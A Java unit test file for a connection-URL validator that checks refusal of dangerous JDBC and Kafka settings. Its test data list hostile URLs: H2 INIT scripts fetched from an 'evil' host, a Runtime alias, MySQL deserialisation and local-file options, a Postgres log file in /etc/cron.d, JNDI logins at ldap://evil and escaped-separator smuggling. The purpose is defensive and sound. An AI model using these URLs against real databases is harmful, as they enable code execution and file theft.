package io.plumbline.connectors.support;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatCode;
import static org.assertj.core.api.Assertions.catchThrowableOfType;

import io.plumbline.engine.error.ErrorCode;
import io.plumbline.engine.error.PlumblineException;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class UrlGuardTest {

    private static PlumblineException refusal(String kind, String url) {
        PlumblineException e =
                catchThrowableOfType(PlumblineException.class, () -> UrlGuard.check(kind, url));
        assertThat(e).as(url).isNotNull();
        assertThat(e.problem().place().field()).isEqualTo("url");
        return e;
    }

    @Test
    void takesGoodUrlsApart() {
        UrlGuard.Address postgres =
                UrlGuard.check(
                        "postgres", "jdbc:postgresql://db:5432/crm?sslmode=require&user=a%20b");
        assertThat(postgres.location()).isEqualTo("//db:5432/crm");
        assertThat(postgres.parameters()).isEqualTo(Map.of("sslmode", "require", "user", "a b"));

        assertThat(
                        UrlGuard.check(
                                        "snowflake",
                                        "jdbc:snowflake://a-b.eu.snowflakecomputing.com/?role=r")
                                .parameters())
                .isEqualTo(Map.of("role", "r"));
        assertThat(UrlGuard.check("mariadb", "jdbc:mariadb://db:3306/crm?user=me@x").location())
                .isEqualTo("//db:3306/crm");

        UrlGuard.Address h2 = UrlGuard.check("h2", "jdbc:h2:file:./data/hr;ifexists=TRUE");
        assertThat(h2.location()).isEqualTo("file:./data/hr");
        assertThat(h2.parameters()).isEqualTo(Map.of("IFEXISTS", "TRUE"));
    }

    private static void refusesParameter(String kind, String url, String parameter) {
        PlumblineException e = refusal(kind, url);

        assertThat(e)
                .as(url)
                .hasMessage(
                        "Cannot use connection URL: its parameter '"
                                + parameter
                                + "' is not allowed");
        assertThat(e.problem().code()).isEqualTo(ErrorCode.CONNECTION_URL_REFUSED);
    }

    private static void refusesSign(String kind, String url) {
        PlumblineException e = refusal(kind, url);

        assertThat(e)
                .as(url)
                .hasMessage(
                        "Cannot use connection URL: it holds an escaped or forbidden character");
        assertThat(e.problem().code()).isEqualTo(ErrorCode.CONNECTION_URL_REFUSED);
    }

    private static void refusesPlace(String kind, String url) {
        PlumblineException e = refusal(kind, url);

        assertThat(e)
                .as(url)
                .hasMessage(
                        "Cannot use connection URL: it names more than one place, or one that is"
                                + " not allowed");
        assertThat(e.problem().code()).isEqualTo(ErrorCode.CONNECTION_URL_REFUSED);
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            value = {
                "h2 | jdbc:h2:./x;INIT=RUNSCRIPT FROM 'http://evil/x.sql' | INIT",
                "h2 | jdbc:h2:mem:x;INIT=CREATE ALIAS X FOR 'java.lang.Runtime.getRuntime' | INIT",
                "h2 | jdbc:h2:./x;IFEXISTS=TRUE;INIT=SET X 1 | INIT",
                "h2 | jdbc:h2:./x;INIT | INIT",
                "h2 | jdbc:h2:./x;TRACE_LEVEL_FILE=4 | TRACE_LEVEL_FILE",
                "h2 | jdbc:h2:./x;TRACE_LEVEL_SYSTEM_OUT=3 | TRACE_LEVEL_SYSTEM_OUT",
                "h2 | jdbc:h2:./x;AUTO_SERVER=TRUE | AUTO_SERVER",
                "h2 | jdbc:h2:./x;DATABASE_EVENT_LISTENER='x.Y' | DATABASE_EVENT_LISTENER",
                "h2 | jdbc:h2:./x;AUTHENTICATOR=TRUE | AUTHENTICATOR",
                "h2 | jdbc:h2:./x;FORBID_CREATION=FALSE | FORBID_CREATION",
                "h2 | jdbc:h2:./x;IGNORE_UNKNOWN_SETTINGS=TRUE;INIT=X | IGNORE_UNKNOWN_SETTINGS",
            })
    void refusesScriptsThatAnH2UrlWouldRunWhenItOpens(String kind, String url, String parameter) {
        refusesParameter(kind, url, parameter);
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            value = {
                "h2 | jdbc:h2:./x;init=RUNSCRIPT FROM 'x' | init",
                "h2 | JDBC:H2:./x;InIt=SET X 1 | InIt",
                "h2 | jdbc:h2:./x;;INIT=X | INIT",
                "h2 | jdbc:h2:./x;IFEXISTS=TRUE\\;INIT=RUNSCRIPT | INIT",
                "h2 | jdbc:h2:./x\\;INIT=RUNSCRIPT | INIT",
                "h2 | jdbc:h2:./x\\\\;iNiT=RUNSCRIPT | iNiT",
                "h2 | jdbc:h2:./x;%49NIT=RUNSCRIPT | %49NIT",
                "h2 | jdbc:h2:./x;I%4eIT=X | I%4eIT",
            })
    void refusesThoseScriptsHoweverTheyAreSpelt(String kind, String url, String parameter) {
        refusesParameter(kind, url, parameter);
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            value = {
                "h2 | jdbc:h2:./x%3BINIT=RUNSCRIPT",
                "h2 | jdbc:h2:./x%3binit=RUNSCRIPT",
                "h2 | jdbc:h2:./x%5C;IFEXISTS=TRUE",
                "h2 | jdbc:h2:./x%253BINIT=RUNSCRIPT",
                "h2 | jdbc:h2:./x;SCHEMA=A\\",
                "h2 | jdbc:h2:./x; INIT=X",
                "h2 | jdbc:h2:./x;INIT =X",
                "postgres | jdbc:postgresql://h/d%3FsocketFactory=x",
                "postgres | jdbc:postgresql://h/d%00",
                "postgres | jdbc:postgresql://h/d?user=a%26socketFactory=x",
                "postgres | jdbc:postgresql://h/d?user=a;socketFactory=x",
            })
    void refusesThoseScriptsBehindEscapedSeparators(String kind, String url) {
        refusesSign(kind, url);
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            value = {
                "mysql | jdbc:mysql://h/d?allowLoadLocalInfile=true | allowLoadLocalInfile",
                "mysql | jdbc:mysql://h/d?allowUrlInLocalInfile=true | allowUrlInLocalInfile",
                "mysql | jdbc:mysql://h/d?allowLoadLocalInfileInPath=/ | allowLoadLocalInfileInPath",
                "mysql | jdbc:mysql://h/d?autoDeserialize=true | autoDeserialize",
                "mysql | jdbc:mysql://h/d?queryInterceptors=x.Y | queryInterceptors",
                "mysql | jdbc:mysql://h/d?statementInterceptors=x.Y | statementInterceptors",
                "mysql | jdbc:mysql://h/d?exceptionInterceptors=x.Y | exceptionInterceptors",
                "mysql | jdbc:mysql://h/d?socketFactory=x.Y | socketFactory",
                "mysql | jdbc:mysql://h/d?propertiesTransform=x.Y | propertiesTransform",
                "mysql | jdbc:mysql://h/d?serverRSAPublicKeyFile=/etc/x | serverRSAPublicKeyFile",
                "mysql | jdbc:mysql://h/d?ALLOWLOADLOCALINFILE=true | ALLOWLOADLOCALINFILE",
                "mysql | jdbc:mysql://h/d?autodeserialize=true | autodeserialize",
                "mysql | jdbc:mysql://h/d?user=a&%61utoDeserialize=true | %61utoDeserialize",
                "mariadb | jdbc:mariadb://h/d?allowLocalInfile=true | allowLocalInfile",
                "mariadb | jdbc:mariadb://h/d?serverRsaPublicKeyFile=/etc/x | serverRsaPublicKeyFile",
                "mariadb | jdbc:mariadb://h/d?socketFactory=x.Y | socketFactory",
                "mariadb | jdbc:mariadb://h/d?localSocket=/run/x | localSocket",
                "mariadb | jdbc:mariadb://h/d?serverSslCert=/etc/x | serverSslCert",
                "mariadb | jdbc:mariadb://h/d?keyStore=/etc/x | keyStore",
                "mariadb | jdbc:mariadb://h/d?connectionAttributes=x | connectionAttributes",
                "mariadb | jdbc:mariadb://h/d?initSql=DROP | initSql",
                "mariadb | jdbc:mariadb://h/d?sessionVariables=x | sessionVariables",
                "mariadb | jdbc:mariadb://h/d?AllowLocalInfile=true | AllowLocalInfile",
            })
    void refusesMySqlAndMariaDbParametersThatReadFilesOrLoadClasses(
            String kind, String url, String parameter) {
        refusesParameter(kind, url, parameter);
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            value = {
                "mysql | jdbc:mysql://(host=h,allowLoadLocalInfile=true)/d",
                "mysql | jdbc:mysql://address=(host=h)(autoDeserialize=true)/d",
                "mysql | jdbc:mysql://h1,h2/d",
                "mysql | jdbc:mysql:loadbalance://h/d",
                "mysql | jdbc:mysql:replication://h/d",
                "mariadb | jdbc:mariadb:sequential://h/d",
                "mariadb | jdbc:mariadb://address=(host=h)(localSocket=/run/x)/d",
            })
    void refusesMySqlAndMariaDbPlacesThatBringParametersAlong(String kind, String url) {
        refusesPlace(kind, url);
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            value = {
                "postgres | jdbc:postgresql://h/d?socketFactory=x.Y | socketFactory",
                "postgres | jdbc:postgresql://h/d?socketfactory=x.Y | socketfactory",
                "postgres | jdbc:postgresql://h/d?SOCKETFACTORY=x.Y | SOCKETFACTORY",
                "postgres | jdbc:postgresql://h/d?socketFactory | socketFactory",
                "postgres | jdbc:postgresql://h/d?socketFactoryArg=http://e | socketFactoryArg",
                "postgres | jdbc:postgresql://h/d?sslfactory=x.Y | sslfactory",
                "postgres | jdbc:postgresql://h/d?sslfactoryarg=x | sslfactoryarg",
                "postgres | jdbc:postgresql://h/d?sslhostnameverifier=x.Y | sslhostnameverifier",
                "postgres | jdbc:postgresql://h/d?loggerFile=/etc/cron.d/x | loggerFile",
                "postgres | jdbc:postgresql://h/d?loggerLevel=TRACE | loggerLevel",
                "postgres | jdbc:postgresql://h/d?preferQueryMode=simple | preferQueryMode",
                "postgres | jdbc:postgresql://h/d?PreferQueryMode=simple | PreferQueryMode",
                "postgres | jdbc:postgresql://h/d?authenticationPluginClassName=x | authenticationPluginClassName",
                "postgres | jdbc:postgresql://h/d?service=x | service",
                "postgres | jdbc:postgresql://h/d?options=-c | options",
                "postgres | jdbc:postgresql://h/d?localSocketAddress=x | localSocketAddress",
                "postgres | jdbc:postgresql://h/d?xmlFactoryFactory=x | xmlFactoryFactory",
                "postgres | jdbc:postgresql://h/d?sslmode=require&socket%46actory=x.Y | socket%46actory",
            })
    void refusesPostgresParametersThatLoadClassesWriteFilesOrWeakenTheProtocol(
            String kind, String url, String parameter) {
        refusesParameter(kind, url, parameter);
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            value = {
                "avatica | jdbc:avatica:remote:url=http://h;httpclient_impl=x.Y | httpclient_impl",
                "avatica | jdbc:avatica:remote:url=http://h;HTTPCLIENT_IMPL=x.Y | HTTPCLIENT_IMPL",
                "avatica | jdbc:avatica:remote:httpclient_impl=x.Y;url=http://h | httpclient_impl",
                "avatica | jdbc:avatica:remote:httpclient_impl=x.Y | httpclient_impl",
                "avatica | jdbc:avatica:remote:url=http://h;httpclient_factory=x.Y | httpclient_factory",
                "avatica | jdbc:avatica:remote:factory=x.Y | factory",
                "avatica | jdbc:avatica:remote:url=http://h;truststore=/etc/x | truststore",
                "avatica | jdbc:avatica:remote:url=http://h;hostname_verification=NONE | hostname_verification",
            })
    void refusesTheHttpClientClassOfAvaticaWhereverItStands(
            String kind, String url, String parameter) {
        refusesParameter(kind, url, parameter);
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            value = {
                "snowflake | jdbc:snowflake://a.snowflakecomputing.com/?authenticator=https://evil | authenticator",
                "snowflake | jdbc:snowflake://a.snowflakecomputing.com/?AUTHENTICATOR=https://evil | AUTHENTICATOR",
                "snowflake | jdbc:snowflake://a.snowflakecomputing.com/?authenticator=externalbrowser | authenticator",
                "snowflake | jdbc:snowflake://a.snowflakecomputing.com/?tracing=ALL | tracing",
                "snowflake | jdbc:snowflake://a.snowflakecomputing.com/?proxyHost=evil | proxyHost",
                "snowflake | jdbc:snowflake://a.snowflakecomputing.com/?insecureMode=true | insecureMode",
            })
    void refusesOtherPagesToLogInAtForSnowflake(String kind, String url, String parameter) {
        refusesParameter(kind, url, parameter);
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            value = {
                "snowflake | jdbc:snowflake://evil.example/",
                "snowflake | jdbc:snowflake://evil.example/?db=x",
                "snowflake | jdbc:snowflake://a.snowflakecomputing.com.evil.example/",
                "snowflake | jdbc:snowflake://evilsnowflakecomputing.com/",
                "snowflake | jdbc:snowflake://evil.example/.snowflakecomputing.com/",
            })
    void refusesHostsThatAreNotSnowflakesOwn(String kind, String url) {
        refusesPlace(kind, url);
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            value = {
                "postgres | jdbc:mysql://h/d",
                "postgres | jdbc:h2:mem:x",
                "h2 | jdbc:postgresql://h/d",
                "postgres | http://h/d",
            })
    void refusesOtherSchemes(String kind, String url) {
        assertThat(refusal(kind, url))
                .hasMessage("Cannot use connection URL: its scheme is not that of '" + kind + "'");
    }

    @Test
    void refusesSystemsThatItDoesNotKnow() {
        assertThat(refusal("oracle", "jdbc:oracle:thin:@h"))
                .hasMessage(
                        "Cannot use connection URL: 'oracle' is no system that URLs are known of");
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            value = {
                "postgres | jdbc:postgresql://app:hunter2@h/d",
                "postgres | jdbc:postgresql://:hunter2@h/d",
                "postgres | jdbc:postgresql://app:hunter2/x@h/d",
                "postgres | jdbc:postgresql://app:5?hunter2@h/d",
                "postgres | jdbc:postgresql://app:5;hunter2@h/d",
                "postgres | jdbc:postgresql://app:hun=hunter2@h/d",
                "postgres | jdbc:postgresql://h/d?user=a&PassWord=hunter2",
                "mariadb | jdbc:mariadb://h/d?user=a&password=hunter2",
                "mariadb | jdbc:mariadb://app:hunter2@h:3306/d",
                "avatica | jdbc:avatica:remote:url=http://app:hunter2@h",
                "avatica | jdbc:avatica:remote:url=http://h;avatica_password=hunter2",
                "postgres | jdbc:postgresql://h/d?user=a&password=hunter2",
                "postgres | jdbc:postgresql://h/d?PASSWORD=hunter2",
                "postgres | jdbc:postgresql://h/d?%70assword=hunter2",
                "postgres | jdbc:postgresql://h/d?sslpassword=hunter2",
                "h2 | jdbc:h2:./x;USER=sa;PASSWORD=hunter2",
                "h2 | jdbc:h2:./x;PASSWORD_HASH=TRUE;password=hunter2",
                "snowflake | jdbc:snowflake://h/?token=hunter2",
                "snowflake | jdbc:snowflake://h/?private_key_pwd=hunter2",
                "mysql | jdbc:mysql://app:hunter2@h/d",
            })
    void findsPasswordsInUrlsAndBeforeTheirHostsWithoutRepeatingThem(String kind, String url) {
        PlumblineException e = refusal(kind, url);

        assertThat(e.problem().code()).isEqualTo(ErrorCode.SECRET_IN_CLEAR_TEXT);
        assertThat(e).hasMessageStartingWith("Cannot use connection URL: it holds a secret");
        assertThat(e.problem().toString()).doesNotContain("hunter2");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "jdbc:postgresql://h/d?user=a;hunter2",
                "jdbc:postgresql://h/d?us(hunter2)=a",
                "jdbc:postgresql://h/d?user=a#hunter2",
                "jdbc:postgresql://h/d@hunter2",
                "jdbc:postgresql://hunter2@h/d",
            })
    void repeatsNothingOfAUrlThatItCannotTakeApart(String url) {
        assertThat(refusal("postgres", url).problem().toString()).doesNotContain("hunter2");
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            value = {
                "sasl.oauthbearer.token.endpoint.url | file:/etc/passwd",
                "sasl.oauthbearer.jwks.endpoint.url | file:/etc/passwd",
                "SASL.OAUTHBEARER.TOKEN.ENDPOINT.URL | file:/etc/passwd",
                "sasl.login.callback.handler.class | x.Y",
                "sasl.client.callback.handler.class | x.Y",
                "interceptor.classes | x.Y",
                "metric.reporters | x.Y",
                "config.providers | file",
                "key.deserializer | x.Y",
                "ssl.engine.factory.class | x.Y",
            })
    void refusesKafkaTokensFromFilesAndClassesToLoad(String name, String value) {
        PlumblineException e =
                catchThrowableOfType(
                        PlumblineException.class,
                        () -> UrlGuard.checkSettings("kafka", Map.of(name, value)));

        assertThat(e)
                .hasMessage(
                        "Cannot use connection URL: its parameter '" + name + "' is not allowed");
        assertThat(e.problem().toString()).doesNotContain("passwd");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "sasl.jaas.config",
                "SASL.JAAS.CONFIG",
                "listener.name.x.plain.sasl.jaas.config",
                "ssl.keystore.password"
            })
    void refusesKafkaLoginModulesThatAskJndi(String name) {
        String module =
                "com.sun.security.auth.module.JndiLoginModule required"
                        + " user.provider.url=\"ldap://evil/x\" password=\"hunter2\";";
        PlumblineException e =
                catchThrowableOfType(
                        PlumblineException.class,
                        () -> UrlGuard.checkSettings("kafka", Map.of(name, module)));

        assertThat(e).hasMessage("Cannot use connection URL: it holds a secret as '" + name + "'");
        assertThat(e.problem().toString()).doesNotContain("hunter2", "ldap");
    }

    @Test
    void letsPlainKafkaSettingsPass() {
        assertThatCode(() ->
                        UrlGuard.checkSettings(
                                "kafka",
                                Map.of("bootstrap.servers", "k:9092", "security.protocol", "SSL")))
                .doesNotThrowAnyException();
    }

    @Test
    void refusesDoubleAndEndlessParameters() {
        assertThat(refusal("postgres", "jdbc:postgresql://h/d?user=a&user=b"))
                .hasMessage("Cannot use connection URL: it has the parameter 'user' twice");
        assertThat(refusal("postgres", "jdbc:postgresql://h/" + "d".repeat(2_000)))
                .hasMessage("Cannot use connection URL: it is longer than 2000 characters");
    }
}
